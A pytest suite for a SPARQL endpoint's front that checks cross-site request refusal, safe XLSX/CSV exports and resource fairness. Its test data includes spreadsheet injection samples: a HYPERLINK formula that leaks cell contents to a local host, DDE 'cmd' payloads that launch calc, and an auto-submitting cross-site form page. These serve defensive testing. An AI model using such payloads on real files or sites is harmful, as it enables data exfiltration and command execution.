"""The endpoint's front under issue 14: same origin only, exports that stay data, fair resources.

Each test states what a client sees: a page of another site is refused (403,
one line) while the editor, curl and SPARQLWrapper are answered; a value that
begins with ``=`` comes back as a string cell; U+FFFE gives a file that opens;
a table over a sheet's rows is a clear error; a crowd of exports is answered
or told to retry; a client hoarding idle connections fails nobody; large
answers read slowly keep the front's memory within its budget (measured from
``/proc`` on a server running in a process of its own).
"""

from __future__ import annotations

import csv
import http.client
import http.server
import importlib.util
import io
import json
import socket
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from SPARQLWrapper import JSON, SPARQLWrapper

from policykg.use.serve import ServerConfig, SparqlServer

pytestmark = pytest.mark.slow
EX = "http://example.org/h14/"
CLIENT_TIMEOUT = 30
#: Values from outside that a spreadsheet must keep as data (subject ex:vN, value, datatype or None).
HOSTILE = {
    "formula": '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"点击")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus_text": "-3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "noncharacters": "甲\ufffe乙\uffff丙",
    "vertical_tab": "a\x0bb",
    "looks_escaped": "_x0041_",
}
NUMBERS = {"integer": ("-3", "integer", -3), "decimal": ("1.5", "decimal", 1.5), "double": ("1.0E3", "double", 1000.0)}
ITEMS = 1100  # ITEMS² > 1,048,575: a cartesian product of the items overflows a sheet


def _rows(rows: int, columns: str = "?a ?n") -> str:
    """A query answering ``rows`` rows (a cartesian product of the items, cut by LIMIT)."""
    return f"PREFIX ex: <{EX}>\nSELECT {columns} WHERE {{ ?a ex:k ?n . ?b ex:k ?m }} LIMIT {rows}"


def _turtle_string(text: str) -> str:
    return '"' + "".join(c if c.isalnum() or c in " ()=+-@|'!*&?:/._甲乙丙点击" else f"\\u{ord(c):04X}"
                         for c in text) + '"'


def _write_graph(path: Path) -> None:
    lines = [f"@prefix ex: <{EX}> .", "@prefix xsd: <http://www.w3.org/2001/XMLSchema#> ."]
    lines += [f"ex:{name} ex:value {_turtle_string(text)} ." for name, text in HOSTILE.items()]
    lines += [f'ex:{name} ex:value "{lexical}"^^xsd:{dt} .' for name, (lexical, dt, _) in NUMBERS.items()]
    lines += [f"ex:i{i} ex:k {i} ." for i in range(ITEMS)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


@pytest.fixture(scope="module")
def graph(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("front") / "h14.ttl"
    _write_graph(path)
    return path


@pytest.fixture(scope="module")
def server(graph):
    config = ServerConfig(graph_files=[graph], port=0, timeout_s=10.0, read_timeout_s=2.0)
    with SparqlServer(config) as srv:
        yield srv


def _port(server) -> int:
    return int(server.url.rsplit(":", 1)[1])


def _call(server, method: str, path: str, headers: dict[str, str | list[str]], body: bytes = b""):
    """(status, headers, body) of a request with exactly these headers (a list: the header repeated)."""
    conn = http.client.HTTPConnection("127.0.0.1", _port(server), timeout=CLIENT_TIMEOUT)
    try:
        conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        headers = {"Host": f"127.0.0.1:{_port(server)}", **headers}
        for name, values in headers.items():
            for value in values if isinstance(values, list) else [values]:
                conn.putheader(name, value)
        if body:
            conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body or None)
        resp = conn.getresponse()
        return resp.status, dict(resp.getheaders()), resp.read()
    finally:
        conn.close()


def _form(fields: dict) -> bytes:
    return urllib.parse.urlencode(fields).encode()


def _export(server, fields: dict, headers: dict | None = None):
    return _call(server, "POST", "/export", {"Content-Type": "application/x-www-form-urlencoded",
                                             **(headers or {})}, _form(fields))


def _select_values(names) -> str:
    return (f"PREFIX ex: <{EX}>\nSELECT ?name ?value WHERE {{ VALUES ?name {{ {' '.join(repr(n) for n in names)} }} "
            "BIND(IRI(CONCAT(STR(ex:), ?name)) AS ?s) ?s ex:value ?value } ORDER BY ?name")


# ------------------------------------------------------------------ 2. same origin only

ASK = "ASK { ?s ?p ?o }"


def _three_ways(server, headers: dict):
    """The statuses of a POST form, a GET and an export carrying ``headers``."""
    form = {"Content-Type": "application/x-www-form-urlencoded", "Accept": "application/sparql-results+json"}
    post = _call(server, "POST", "/sparql", {**form, **headers}, _form({"query": ASK}))
    get = _call(server, "GET", "/sparql?" + urllib.parse.urlencode({"query": ASK}),
                {"Accept": "application/sparql-results+json", **headers})
    export = _export(server, {"query": ASK, "format": "csv"}, headers)
    return post, get, export


@pytest.mark.parametrize("headers", [
    {},                                                            # curl, urllib, SPARQLWrapper
    {"Origin": "http://127.0.0.1:{port}", "Sec-Fetch-Site": "same-origin"},  # the editor's fetch
    {"Sec-Fetch-Site": "same-origin"},                             # a same-origin GET sends no Origin
    {"Sec-Fetch-Site": "none"},                                    # a URL typed in the address bar
    {"Host": "localhost:{port}", "Origin": "http://localhost:{port}"},
    {"Host": "[::1]:{port}", "Origin": "http://[0:0:0:0:0:0:0:1]:{port}"},
])
def test_same_origin_and_command_line_clients_are_answered(server, headers):
    headers = {k: v.format(port=_port(server)) for k, v in headers.items()}
    for status, _, body in _three_ways(server, headers):
        assert status == 200, body


@pytest.mark.parametrize("headers", [
    {"Origin": "http://evil.example"},
    {"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"},
    {"Origin": "null"},                                            # sandboxed frame, data: page, no-referrer page
    {"Origin": "null", "Sec-Fetch-Site": "same-origin"},
    {"Sec-Fetch-Site": "cross-site"},                              # a GET from another site sends no Origin
    {"Sec-Fetch-Site": "same-site"},                               # another port of the same host
    {"Origin": "http://127.0.0.1:1"},                              # another port
    {"Origin": "https://127.0.0.1:{port}"},                        # another scheme
    {"Origin": "http://localhost:{port}"},                         # the request was sent to 127.0.0.1
    {"Origin": ["http://127.0.0.1:{port}", "http://evil.example"]},
    {"Origin": "http://127.0.0.1:{port}/"},
])
def test_cross_site_requests_get_one_line_403(server, headers):
    headers = {k: [x.format(port=_port(server)) for x in v] if isinstance(v, list) else v.format(port=_port(server))
               for k, v in headers.items()}
    for status, _, body in _three_ways(server, headers):
        assert status == 403, body
        assert body.endswith(b"\n") and body.count(b"\n") == 1 and b"cross-site request refused" in body


def test_sparqlwrapper_still_works(server):
    sparql = SPARQLWrapper(server.endpoint)
    sparql.setQuery(_select_values(["formula"]))
    sparql.setReturnFormat(JSON)
    sparql.setTimeout(CLIENT_TIMEOUT)
    [row] = sparql.query().convert()["results"]["bindings"]
    assert row["value"]["value"] == HOSTILE["formula"]


def _browser_helper():
    spec = importlib.util.spec_from_file_location("policykg_test_front_browser", Path(__file__).with_name("browser.py"))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    module.CHROMIUM_FLAGS = tuple("--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
                                  if f.startswith("--host-resolver-rules") else f for f in module.CHROMIUM_FLAGS)
    return module


@pytest.mark.browser
def test_a_page_of_another_site_cannot_post_a_form_but_the_editor_can_query(server, tmp_path_factory):
    """In Chromium: a page on another port submits a form to /sparql (a simple request, no
    preflight) and gets the 403; the editor's own fetches to /sparql and /export are answered."""
    helper = _browser_helper()
    if not helper.CHROMIUM.exists():
        pytest.skip(f"{helper.CHROMIUM} not installed")
    target = json.dumps(server.endpoint)
    page = (f"<form id=f method=POST action={target}><input name=query value='{ASK}'></form>"
            "<script>document.getElementById('f').submit()</script>").encode()

    class Evil(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *args):
            pass

    evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    threading.Thread(target=evil.serve_forever, args=(0.05,), daemon=True).start()
    try:
        with helper.Chromium(tmp_path_factory.mktemp("xs"), timeout=30) as chrome:
            tab = chrome.open_page()
            tab.navigate(f"http://127.0.0.1:{evil.server_address[1]}/")
            tab.wait_for("location.pathname === '/sparql' && document.body !== null", timeout=20)
            assert "cross-site request refused" in tab.evaluate("document.body.innerText")
            editor = chrome.open_page()
            editor.navigate(server.url + "/")
            editor.wait_for("document.readyState === 'complete'", timeout=20)
            statuses = editor.evaluate("""(async () => {
                const form = new URLSearchParams({query: 'ASK {}', format: 'xlsx'});
                const a = await fetch('/sparql', {method: 'POST', body: new URLSearchParams({query: 'ASK {}'}),
                    headers: {'Content-Type': 'application/x-www-form-urlencoded'}});
                const b = await fetch('/export', {method: 'POST', body: form,
                    headers: {'Content-Type': 'application/x-www-form-urlencoded'}});
                const c = await fetch('/sparql?query=' + encodeURIComponent('ASK {}'));
                return [a.status, b.status, c.status];
            })()""")
            assert statuses == [200, 200, 200]
    finally:
        evil.shutdown()
        evil.server_close()


# ------------------------------------------------------------------ 4. exports that stay data


def _sheet(body: bytes):
    openpyxl = pytest.importorskip("openpyxl")
    return openpyxl.load_workbook(io.BytesIO(body)).active


def test_xlsx_text_is_never_a_formula_and_numbers_stay_numbers(server):
    names = ["formula", "plus", "minus_text", "at", *NUMBERS]
    status, headers, body = _export(server, {"query": _select_values(names), "format": "xlsx"})
    assert status == 200, body
    cells = {row[0].value: row[1] for row in _sheet(body).iter_rows(min_row=2)}
    for name in ("formula", "plus", "minus_text", "at"):
        assert cells[name].data_type == "s" and cells[name].value == HOSTILE[name], name
    for name, (_, _, number) in NUMBERS.items():
        assert cells[name].data_type == "n" and cells[name].value == number, name
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml")


def test_xlsx_holds_characters_xml_cannot(server):
    """U+FFFE, U+FFFF and VT are written as OOXML escapes (Excel shows them); the file is well-formed."""
    status, _, body = _export(server, {"query": _select_values(["noncharacters", "vertical_tab", "looks_escaped"]),
                                       "format": "xlsx"})
    assert status == 200, body
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        for name in book.namelist():
            if name.endswith(".xml"):
                ElementTree.fromstring(book.read(name))  # raises on a character XML cannot hold
    cells = {row[0].value: row[1].value for row in _sheet(body).iter_rows(min_row=2)}
    assert cells["noncharacters"] == "甲_xFFFE_乙_xFFFF_丙"
    assert cells["vertical_tab"] == "a_x000B_b"
    assert cells["looks_escaped"] == "_x005F_x0041_"


def test_the_csv_for_excel_neutralises_formulas_and_keeps_numbers(server):
    status, _, body = _export(server, {"query": _select_values([*HOSTILE, *NUMBERS]), "format": "csv", "bom": "1"})
    assert status == 200, body
    assert body.startswith(b"\xef\xbb\xbf")
    rows = dict(list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1:])
    for name in ("formula", "plus", "minus_text", "at"):
        assert rows[name] == "'" + HOSTILE[name], name
    assert rows["integer"] == "-3" and rows["decimal"] == "1.5" and float(rows["double"]) == 1000.0
    assert rows["noncharacters"] == HOSTILE["noncharacters"]
    status, _, body = _export(server, {"query": _select_values(["formula"]), "format": "csv"})
    assert status == 200 and HOSTILE["formula"].replace('"', '""') in body.decode()  # plain CSV: the data as is


def test_xlsx_over_a_sheet_of_rows_is_a_clear_error(server):
    started = time.monotonic()
    status, headers, body = _export(server, {"query": _rows(1_048_576), "format": "xlsx"})
    assert status == 422, body[:200]
    assert body.count(b"\n") == 1 and b"1,048,576 rows" in body and b"1,048,575" in body and b"CSV" in body
    assert time.monotonic() - started < 10  # counted from the engine's lines, before any writing
    status, _, body = _export(server, {"query": _rows(1_048_575), "format": "xlsx"})
    assert status in (200, 504), body[:200]  # fits a sheet: written, or stopped by the time limit
    if status == 504:
        assert body.count(b"\n") == 1 and b"time limit" in body


def test_a_crowd_of_exports_is_answered_or_told_to_retry(graph):
    """40 concurrent 10,000-row XLSX exports: each gets its file or a prompt 503 with Retry-After (on
    the issue's server, 100 of them gave 67 × 504: conversions ran outside the worker cap)."""
    config = ServerConfig(graph_files=[graph], port=0, timeout_s=5.0)
    with SparqlServer(config) as srv:
        got = []

        def export():
            started = time.monotonic()
            status, headers, body = _export(srv, {"query": _rows(10_000), "format": "xlsx"})
            got.append((status, headers.get("Retry-After"), time.monotonic() - started, body))

        threads = [threading.Thread(target=export) for _ in range(40)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(CLIENT_TIMEOUT + 30)
    statuses = sorted(status for status, *_ in got)
    assert len(got) == 40 and set(statuses) <= {200, 503}, statuses
    assert 200 in statuses
    for status, retry, seconds, body in got:
        if status == 503:
            assert retry and seconds < 6, (retry, seconds)
        else:
            assert _sheet(body).max_row == 10_001


# ------------------------------------------------------------------ 5. fair resources


def test_a_client_hoarding_idle_connections_fails_no_one(graph):
    """One client holds every connection the server allows, idle; the others' queries are still
    answered, because a new connection closes an idle one (the hog's, oldest first)."""
    config = ServerConfig(graph_files=[graph], port=0, timeout_s=5.0, max_connections=40)
    with SparqlServer(config) as srv:
        port = _port(srv)
        hog = [socket.create_connection(("127.0.0.1", port), timeout=5) for _ in range(40)]
        time.sleep(0.3)
        try:
            statuses = []

            def client():
                for _ in range(5):
                    statuses.append(_call(srv, "GET", "/sparql?" + urllib.parse.urlencode({"query": ASK}), {})[0])

            threads = [threading.Thread(target=client) for _ in range(8)]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join(CLIENT_TIMEOUT)
            assert statuses == [200] * 40
            closed = []
            for i, sock in enumerate(hog):
                sock.settimeout(0.01)
                try:
                    if sock.recv(1) == b"":
                        closed.append(i)
                except (TimeoutError, OSError):
                    pass
            assert closed and closed == list(range(len(closed)))  # the hog's oldest made room
        finally:
            for sock in hog:
                sock.close()


def test_a_client_is_capped_by_its_requests_in_progress_not_its_connections(graph):
    """With a cap of three per address, three idle connections stop nothing; three requests waiting
    for their bodies do: the next gets a prompt 503 with Retry-After, until they are dropped."""
    config = ServerConfig(graph_files=[graph], port=0, timeout_s=5.0, max_per_client=3, read_timeout_s=1.5)
    ask = "/sparql?" + urllib.parse.urlencode({"query": ASK})
    with SparqlServer(config) as srv:
        held = [socket.create_connection(("127.0.0.1", _port(srv)), timeout=5) for _ in range(3)]
        try:
            time.sleep(0.2)
            assert _call(srv, "GET", ask, {})[0] == 200
            for sock in held:
                sock.sendall(b"POST /sparql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 50\r\n"
                             b"Content-Type: application/sparql-query\r\n\r\n")
            time.sleep(0.3)
            status, headers, body = _call(srv, "GET", ask, {})
            assert status == 503 and headers.get("Retry-After") and b"in progress" in body
            time.sleep(1.5)
            assert _call(srv, "GET", ask, {})[0] == 200
        finally:
            for sock in held:
                sock.close()


def _bench():
    spec = importlib.util.spec_from_file_location("load_endpoint", Path(__file__).resolve().parents[1]
                                                  / "bench" / "load_endpoint.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_large_answers_read_slowly_stay_within_the_memory_budget(graph):
    """12 clients ask at once for a ~12 MB answer each and read it slowly. The front (its own
    process) holds no more than its 48 MiB budget for them: each client gets its whole answer or
    a 503 with Retry-After (on the issue's server, 16 such answers took the front to 3.9 GB)."""
    budget = 48 * 2**20
    with _bench().ServerProcess([graph], timeout_s=20.0, memory_budget=budget, max_result_bytes=32 * 2**20) as srv:
        query = _rows(100_000, "?a ?b ?n")
        start = srv.status("VmRSS")
        got = []

        def slow_reader():
            req = urllib.request.Request(srv.endpoint, data=_form({"query": query}), headers={
                "Content-Type": "application/x-www-form-urlencoded", "Accept": "application/sparql-results+json"})
            try:
                with urllib.request.urlopen(req, timeout=CLIENT_TIMEOUT + 30) as resp:
                    size, expected = 0, int(resp.headers["Content-Length"])
                    while piece := resp.read(256 * 1024):
                        size += len(piece)
                        time.sleep(0.05)
                    got.append((resp.status, size == expected and size > 10 * 2**20))
            except urllib.error.HTTPError as err:
                got.append((err.code, err.headers.get("Retry-After") is not None))

        threads = [threading.Thread(target=slow_reader) for _ in range(12)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(CLIENT_TIMEOUT + 60)
        peak = srv.status("VmHWM")
    assert len(got) == 12 and all(ok for _, ok in got) and {s for s, _ in got} <= {200, 503}, got
    assert any(status == 200 for status, _ in got)
    assert peak - start < budget + 40 * 2**20, (peak - start) / 2**20
